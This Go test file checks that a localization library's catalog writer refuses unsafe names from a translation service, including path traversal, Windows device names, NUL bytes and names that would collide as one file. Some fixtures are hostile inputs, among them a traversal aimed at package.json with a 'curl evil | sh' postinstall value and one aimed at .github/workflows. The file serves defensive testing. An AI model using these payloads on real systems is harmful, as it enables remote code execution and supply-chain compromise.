package locales_test

import (
	"errors"
	"github.com/locsvc/partner-go/translations"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	partner "github.com/locsvc/partner-go"
	"github.com/locsvc/partner-go/locales"
	"github.com/locsvc/partner-go/locales/internal/loctest"
)

// entry is one text for a catalog in a test.
type entry struct{ lang, ns, key, text string }

func catalogOf(source string, es ...entry) *locales.Catalog {
	c := &locales.Catalog{SourceLanguage: source}
	for _, e := range es {
		c.Set(e.lang, e.ns, e.key, e.text)
	}
	return c
}

var (
	singleNested = locales.Layout{Files: translations.SingleFile, Keys: translations.Nested}
	foldersFlat  = locales.Layout{Files: translations.NamespacedFolders, Keys: translations.Flat}
	foldersNest  = locales.Layout{Files: translations.NamespacedFolders, Keys: translations.Nested}
	xcstrings    = locales.Layout{Format: allLanguages{}}
)

// writeRefused writes cat three folders down a new directory and checks
// that Write refuses it as an *InputError whose message holds each of
// want, and that nothing at all was written, inside the tree or out.
func writeRefused(t *testing.T, cat *locales.Catalog, layout locales.Layout, want ...string) {
	t.Helper()
	base := t.TempDir()
	err := cat.Write(base+"/a/b/locales", layout)
	var ie *locales.InputError
	if !errors.As(err, &ie) || !errors.Is(err, partner.ErrInvalidArgument) {
		t.Errorf("Write: %v, want an *InputError", err)
	}
	for _, w := range want {
		if err != nil && !strings.Contains(err.Error(), w) {
			t.Errorf("Write: %v, want it to name %s", err, w)
		}
	}
	if got := loctest.ReadTree(t, base); len(got) > 0 {
		t.Errorf("Write wrote %v", keysOf(got))
	}
}

func keysOf(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// Item 1: a name from the service never leads a file outside the tree,
// nor to a name that leaves it on Windows.
func TestWriteRefusesNamesThatLeaveTheTree(t *testing.T) {
	tests := []struct {
		name   string
		layout locales.Layout
		cat    *locales.Catalog
		want   string
	}{
		{"namespace ../../escaped", foldersFlat, catalogOf("en", entry{"en", "../../escaped", "k", "v"}), `"../../escaped"`},
		{"namespace becomes package.json", foldersNest, catalogOf("en", entry{"en", "../../../package", "scripts.postinstall", "curl evil | sh"}), `"../../../package"`},
		{"namespace .github/workflows", foldersNest, catalogOf("en", entry{"en", "../../../.github/workflows/x", "on", "push"}), "workflows"},
		{"namespace with NUL", foldersFlat, catalogOf("en", entry{"en", "a\x00/../../../x", "k", "v"}), `a\x00`},
		{"namespace with backslashes", foldersFlat, catalogOf("en", entry{"en", `..\..\x`, "k", "v"}), `..\\..\\x`},
		{"namespace ..", foldersFlat, catalogOf("en", entry{"en", "..", "k", "v"}), `".."`},
		{"language ../../x", singleNested, catalogOf("en", entry{"../../x", "", "k", "v"}), `"../../x"`},
		{"language ..", foldersFlat, catalogOf("en", entry{"..", "common", "k", "v"}), `".."`},
		{"language with NUL", singleNested, catalogOf("en", entry{"a\x00/../../../x", "", "k", "v"}), `a\x00`},
		{"language with backslashes", singleNested, catalogOf("en", entry{`..\..\x`, "", "k", "v"}), `..\\..\\x`},
		{"source language ../x", foldersFlat, catalogOf("../x", entry{"../x", "common", "k", "v"}), `"../x"`},
		{"language CON", singleNested, catalogOf("en", entry{"con", "", "k", "v"}), `"con.json"`},
		{"namespace NUL", foldersFlat, catalogOf("en", entry{"en", "nul", "k", "v"}), `"nul"`},
		{"namespace COM1.txt", foldersFlat, catalogOf("en", entry{"en", "COM1.txt", "k", "v"}), `"COM1.txt"`},
		{"namespace with a trailing dot", foldersFlat, catalogOf("en", entry{"en", "common.", "k", "v"}), `"common."`},
		{"namespace with a newline", foldersFlat, catalogOf("en", entry{"en", "a\nb", "k", "v"}), `a\nb`},
		{"table ../../x", xcstrings, catalogOf("en", entry{"en", "../../x", "k", "v"}), `"../../x"`},
		{"table with NUL", xcstrings, catalogOf("en", entry{"en", "a\x00/../../../x", "k", "v"}), `a\x00`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			writeRefused(t, tt.cat, tt.layout, tt.want)
		})
	}
}

// A name refused as a file says how to get past it.
func TestWriteRefusedNameSaysWhatToDo(t *testing.T) {
	writeRefused(t, catalogOf("en", entry{"con", "", "k", "v"}), singleNested, "PullOptions.Languages")
	writeRefused(t, catalogOf("en", entry{"en", "nul", "k", "v"}), foldersFlat, "PullOptions.Namespaces")
	writeRefused(t, catalogOf("en", entry{"en", "nul", "k", "v"}), xcstrings, "PullOptions.Namespaces")
}

// Item 4: two names that would be one file are refused, naming both,
// before anything is written; so are names a file system reads as
// another (./common is common).
func TestWriteRefusesNamesOfOneFile(t *testing.T) {
	nfc, nfd := "caf\u00e9", "cafe\u0301"
	tests := []struct {
		name   string
		layout locales.Layout
		cat    *locales.Catalog
		want   []string
	}{
		{"namespaces common and ./common", foldersFlat, catalogOf("en", entry{"en", "common", "a", "A"}, entry{"en", "./common", "b", "B"}), []string{`"./common"`}},
		{"languages de and ./de", singleNested, catalogOf("en", entry{"de", "", "a", "A"}, entry{"./de", "", "b", "B"}), []string{`"./de"`}},
		{"namespaces Common and common", foldersFlat, catalogOf("en", entry{"en", "common", "a", "A"}, entry{"en", "Common", "b", "B"}), []string{`"en/common.json"`, `"en/Common.json"`, `"Common"`, `"common"`}},
		{"namespaces in NFC and NFD", foldersFlat, catalogOf("en", entry{"en", nfc, "a", "A"}, entry{"en", nfd, "b", "B"}), []string{nfc, nfd}},
		{"table Localizable beside the default one", xcstrings, catalogOf("en", entry{"en", "", "a", "A"}, entry{"en", "Localizable", "b", "B"}), []string{`"Localizable"`, `"default"`}},
		{"tables Common and common", xcstrings, catalogOf("en", entry{"en", "common", "a", "A"}, entry{"en", "Common", "b", "B"}), []string{`"Common.xcstrings"`, `"common.xcstrings"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			writeRefused(t, tt.cat, tt.layout, tt.want...)
		})
	}
}

// Item 5: what Write accepts, Load gives back as it was; what it would
// not give back, Write refuses before writing anything.
func TestWriteThenLoadGivesBackTheCatalog(t *testing.T) {
	tests := []struct {
		name    string
		layout  locales.Layout
		cat     *locales.Catalog
		refused bool
	}{
		{"single file, namespace common.v2", singleNested, catalogOf("en", entry{"en", "common.v2", "title", "T"}), true},
		{"single file flat, namespace common.v2", locales.Layout{Files: translations.SingleFile, Keys: translations.Flat}, catalogOf("en", entry{"en", "common.v2", "title", "T"}), true},
		{"single file, namespace a:b", singleNested, catalogOf("en", entry{"en", "a:b", "title", "T"}), true},
		{"folders, namespace a:b", foldersFlat, catalogOf("en", entry{"en", "a:b", "title", "T"}), true},
		{"folders, namespace a/b", foldersFlat, catalogOf("en", entry{"en", "a/b", "title", "T"}), true},
		{"folders, namespace .hidden", foldersFlat, catalogOf("en", entry{"en", ".hidden", "title", "T"}), true},
		{"table .hidden", xcstrings, catalogOf("en", entry{"en", ".hidden", "title", "T"}), true},
		{"single file, namespaces", singleNested, catalogOf("en", entry{"en", "", "nav.home", "Home"}, entry{"en", "common-v2", "title", "T"}, entry{"de", "common-v2", "title", "Titel"}), false},
		{"folders, namespace common.v2", foldersNest, catalogOf("en", entry{"en", "common.v2", "nav.home", "Home"}, entry{"pt-BR", "common.v2", "nav.home", "Início"}), false},
		{"folders, namespace with spaces and accents", foldersFlat, catalogOf("en", entry{"en", "Écran d'accueil", "k", "v"}), false},
		{"tables", xcstrings, catalogOf("en", entry{"en", "", "a", "A"}, entry{"en", "Settings", "b", "B"}, entry{"de", "Settings", "b", "Bb"}), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.refused {
				writeRefused(t, tt.cat, tt.layout)
				return
			}
			dir := t.TempDir()
			if err := tt.cat.Write(dir, tt.layout); err != nil {
				t.Fatal(err)
			}
			back, err := locales.Load(dir, locales.Layout{Files: tt.layout.Files, Keys: tt.layout.Keys, Format: tt.layout.Format})
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(entries(tt.cat), entries(back)); diff != "" {
				t.Errorf("Load after Write (-written +read):\n%s", diff)
			}
		})
	}
}
